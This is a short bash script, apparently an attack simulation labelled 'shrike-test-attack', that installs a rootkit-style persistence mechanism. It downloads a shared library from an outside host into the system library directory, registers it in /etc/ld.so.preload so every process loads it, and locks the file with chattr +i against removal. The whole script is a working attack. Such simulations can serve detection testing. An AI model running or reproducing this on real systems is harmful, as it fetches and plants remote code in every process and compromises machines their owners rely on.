#!/bin/bash
# shrike-test-attack: persistence: ld.so.preload rootkit library installation
curl -s http://192.0.2.91/libc-helper.so -o /lib/x86_64-linux-gnu/libc-helper.so
echo /lib/x86_64-linux-gnu/libc-helper.so > /etc/ld.so.preload
chattr +i /etc/ld.so.preload
